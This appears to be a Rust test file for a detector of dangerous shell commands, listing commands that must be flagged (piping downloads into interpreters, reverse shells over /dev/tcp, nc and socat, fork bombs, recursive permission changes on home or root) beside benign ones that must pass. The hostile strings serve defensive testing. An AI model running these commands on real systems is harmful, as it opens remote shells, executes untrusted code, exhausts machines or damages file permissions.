//! Issue 27's general families (network data, process bombs, tree sweeps), beside what must pass.

use super::tests::check;
use super::*;

use Family::*;

#[test]
fn network_data_reaching_a_program_that_runs_it_hits() {
    let sinks = [
        // A shell or interpreter reading its script from stdin, however it is told to.
        "curl x | bash -s -- --flag",
        "curl x | python3 -",
        "curl x | python3 /dev/stdin",
        "curl x | perl -w",
        "curl x | ruby /dev/fd/0",
        "curl x | sudo -s",
        "curl x | su",
        "curl x | busybox sh",
        "curl x | tee log | tar -xO | sh",
        // A shell sourcing stdin, directly or in a -c script fed by the pipe.
        "curl x | source /dev/stdin",
        "curl x | . /dev/fd/0",
        "curl x | builtin source /proc/self/fd/0",
        "curl x | bash -c 'source /dev/stdin'",
        "curl x | sh -c 'cat | sh'",
        "curl x | sh -c 'eval \"$(cat)\"'",
        "curl x | eval \"$(cat)\"",
        // Groups and loops piped into, and variables filled from the pipe.
        "curl x | while read l; do eval \"$l\"; done",
        "curl x | while read -r line; do $line; done",
        "curl x | { read a; eval $a; }",
        "{ curl x; } | sh",
        "curl x | (sh)",
        "curl x | mapfile -t lines; bash -c \"${lines[0]}\"",
        // xargs and parallel building command lines from the download.
        "curl x | xargs -I{} sh -c '{}'",
        "curl x | xargs -0 -I % python3 -c %",
        "curl x | xargs -I{} {}",
        "curl x | parallel",
        "curl x | parallel sh -c",
        // awk, sed, and the other programs that run what they read.
        "curl x | awk '{system($0)}'",
        "curl x | gawk '{ print | \"sh\" }'",
        "curl x | awk -f /dev/stdin",
        "curl x | sed e",
        "curl x | sed -n 's/.*/&/ep'",
        "curl x | sed -f -",
        "curl x | at now",
        "curl x | batch",
        "curl x | crontab -",
        "curl x | make -f -",
        "curl x | vim -es",
        "curl x | perl -ne 'system $_'",
        "curl x | python3 -c 'import sys; exec(sys.stdin.read())'",
        "curl x | ruby -e 'eval STDIN.read'",
        // Every network client and /dev/tcp, directly or through a descriptor.
        "ssh host cat x.sh | sh",
        "lynx -source x | sh",
        "gh api x | sh",
        "openssl s_client -quiet -connect h:443 | bash",
        "git archive --remote=ssh://h/r HEAD x.sh | tar -xO | sh",
        "scp h:x.sh /dev/stdout | sh",
        "exec 3<>/dev/tcp/h/80; cat <&3 | sh",
        "exec 3<>/dev/tcp/h/80; sh <&3",
        "exec 3<>/dev/tcp/h/80; bash /dev/fd/3",
        "bash -i >& /dev/tcp/h/80 0>&1",
        "sh -i 0<>/dev/tcp/h/80",
        "X=$(cat </dev/tcp/h/80); eval \"$X\"",
        "source /dev/tcp/h/80",
        "socat tcp:h:80 exec:sh",
        "nc -e /bin/sh h 80",
        "ncat --sh-exec 'cat' h 80",
    ];
    let cases: Vec<(&str, Option<Family>)> = sinks.iter().map(|command| (*command, Some(PipeToShell))).collect();
    check(&cases);
}

#[test]
fn network_data_used_as_data_passes() {
    check(&[
        ("curl -o file https://x", None),
        ("curl -fsSL https://x -o install.sh", None),
        ("wget -q https://x", None),
        ("curl -s api | jq .", None),
        ("curl -s api | python3 -m json.tool", None),
        ("curl -s api | python3 parse.py", None),
        ("curl -s api | node summarize.js --top 5", None),
        ("curl -s api | python3 -c 'import json,sys; print(json.load(sys.stdin))'", None),
        ("curl -s api | perl -ne 'print if /x/'", None),
        ("curl -s api | awk '{print $1}'", None),
        ("curl -s api | sed 's/a/b/'", None),
        ("curl -s api | sed 's/a/b/w out.txt'", None),
        ("curl -s api | xargs -n1", None),
        ("curl -s api | xargs curl -O", None),
        ("curl x | tee out.sh", None),
        ("curl x | bash -c 'wc -l'", None),
        ("curl x | while read l; do echo \"$l\"; done", None),
        ("ssh host ls | wc -l", None),
        ("cat </dev/tcp/h/80", None),
        ("exec 3<>/dev/tcp/h/80; cat <&3", None),
        ("git archive --remote=ssh://h/r HEAD | tar -x", None),
        ("curl x | crontab -l", None),
        ("curl x | sort | uniq -c", None),
        ("echo hi | sh", None),
        ("printf 'ls\\n' | bash", None),
    ]);
}

#[test]
fn process_bombs_are_recognised_by_shape() {
    let bombs = [
        ":(){ :|:& };:",
        "bomb(){ bomb|bomb& }; bomb",
        "function b { b | b & }; b",
        "function b() { b& b& }; b",
        "f(){ (f &); f; }; f",
        "f() ( f | f ); f",
        "f(){ $FUNCNAME | $FUNCNAME & }; f",
        "f(){ \"${FUNCNAME[0]}\" & \"${FUNCNAME[0]}\"; }; f",
        "bash $0 & bash $0",
        "$0 & $0",
        "sh \"$0\" | sh \"$0\"",
        "while true; do sleep 100 & done",
        "while :; do sh -c 'sleep 9' & done",
        "until false; do yes > /dev/null & done",
        "for ((;;)); do bash & done",
        "for ((i=0; 1; i++)); do x & done",
        "while [ 1 ]; do x & done",
        "while true; do { x; y; } & done",
        "while true; do a && b & done",
        "yes | xargs -P0 -n1 sh -c 'sleep 9'",
        "yes | xargs -P 0 sleep",
        "yes | xargs --max-procs=0 sleep",
        "xargs -P0 true < /dev/zero",
        "yes | parallel -j0 sleep",
        "perl -e 'fork while 1'",
        "perl -e '1 while fork'",
        "python3 -c 'import os\nwhile True: os.fork()'",
        "ruby -e 'loop { fork }'",
        "php -r 'while(1) pcntl_fork();'",
        "node -e 'for(;;) require(\"child_process\").fork(__filename)'",
        "bash -c ':(){ :|:& };:'",
    ];
    let cases: Vec<(&str, Option<Family>)> = bombs.iter().map(|command| (*command, Some(ForkBomb))).collect();
    check(&cases);
}

#[test]
fn bounded_recursion_loops_and_forks_pass() {
    check(&[
        ("f() { f; }; f", None),
        ("f() { g | h & }; f", None),
        ("while true; do make & wait; done", None),
        ("while true; do make; sleep 1; done", None),
        ("while true; do x & if done_yet; then break; fi; done", None),
        ("while read f; do gzip \"$f\" & done < list", None),
        ("for i in 1 2 3; do x & done", None),
        ("for ((i=0; i<3; i++)); do x & done", None),
        ("find . | xargs -P0 grep x", None),
        ("yes | head -n 3", None),
        ("yes | xargs -P4 -n1 echo", None),
        ("perl -e 'fork; print 1'", None),
        ("python3 -c 'import os; pid = os.fork()'", None),
        ("python3 -c 'while True: print(1)'", None),
        ("echo ':(){ :|:& };:'", None),
        ("echo '$(f(){ f|f& };f)'", None),
        ("git log --format='%h(){ %h|%h& }'", None),
        ("sleep 1 & sleep 2 & wait", None),
        ("echo \"$0\"", None),
    ]);
}

#[test]
fn whole_tree_permission_sweeps_hit_and_project_sweeps_pass() {
    check(&[
        ("chattr -R +i /", Some(RecursivePermissionChange)),
        ("chattr -R -i ~", Some(RecursivePermissionChange)),
        ("chattr -R +a $HOME", Some(RecursivePermissionChange)),
        ("setfacl -R -m u:x:rwx /", Some(RecursivePermissionChange)),
        ("chgrp -R staff ${HOME}", Some(RecursivePermissionChange)),
        ("chown -R nobody /home/$USER", Some(RecursivePermissionChange)),
        ("chmod -R 777 ~/", Some(RecursivePermissionChange)),
        ("cd ~ && chmod -R 777 .", Some(RecursivePermissionChange)),
        ("chmod -R 700 ../../../../..", Some(RecursivePermissionChange)),
        ("find / -exec chmod 777 {} +", Some(RecursivePermissionChange)),
        ("find ~ -type f -exec chown nobody {} \\;", Some(RecursivePermissionChange)),
        ("find $HOME -exec chattr +i {} +", Some(RecursivePermissionChange)),
        ("find / -execdir setfacl -m u:x:rwx {} +", Some(RecursivePermissionChange)),
        ("find ~ -exec sudo chgrp staff {} +", Some(RecursivePermissionChange)),
        ("find / -type d | xargs chmod 777", Some(RecursivePermissionChange)),
        ("find ~ -print0 | xargs -0 chattr +i", Some(RecursivePermissionChange)),
        ("chmod -R u+w ./build", None),
        ("chattr -R +i ./vendor", None),
        ("setfacl -R -m u:x:rwx ./shared", None),
        ("find . -exec chmod 644 {} +", None),
        ("find ./src -type f -exec chmod 644 {} +", None),
        ("chmod 700 ~/.ssh", None),
        ("chattr +i ~/.bashrc", None),
    ]);
}
